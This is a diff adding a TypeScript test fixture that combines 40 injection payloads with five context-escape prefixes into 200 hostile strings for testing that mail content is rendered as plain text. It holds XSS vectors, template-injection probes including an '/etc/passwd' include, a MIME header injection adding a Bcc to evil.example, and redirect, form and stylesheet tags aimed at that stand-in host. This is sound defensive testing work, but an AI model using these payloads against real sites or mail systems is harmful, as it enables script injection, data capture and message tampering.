@@ -1,0 +1,50 @@
+const payloads = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script href="data:,alert(1)"/>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<body onload=alert(1)>',
+  '<base href="//evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<link rel="stylesheet" href="//evil.example/a.css">',
+  '<form action="//evil.example"><input name=q>',
+  '<style>*{display:none}</style>',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?xml version="1.0"?><x/>',
+  '" onmouseover="alert(1)',
+  "' onfocus='alert(1)' autofocus='",
+  '" style="position:fixed;inset:0',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;',
+  '&amp;&quot;&apos;',
+  'javascript:alert(1)',
+  'data:text/html;base64,PHNjcmlwdD4=',
+  '{{7*7}}',
+  '${7*7}',
+  '<%= 7*7 %>',
+  '#{7*7}',
+  '{%include "/etc/passwd"%}',
+  '[[${7*7}]]',
+  '%s%n%x',
+  '$& $1 $` $$',
+  '\\u003cscript\\u003e',
+  '＜script＞',
+  '<scr\u0131pt>',
+  '[click](https://evil.example)',
+  '=?utf-8?Q?=0D=0ABcc:x@evil.example?=',
+  '<%00script>',
+  '<!doctype html><html><head>',
+] as const;
+
+/** What a text can try to leave first: text, attribute, title, sheet, comment. */
+const escapes = ['', '">', "'/>", '</title></style>', '--><![endif]-->'] as const;
+
+/** 200 texts that would do harm if a mail took them for anything but text. */
+export const hostileTexts: readonly string[] = payloads.flatMap((payload) =>
+  escapes.map((escape) => `${escape}${payload}`),
+);
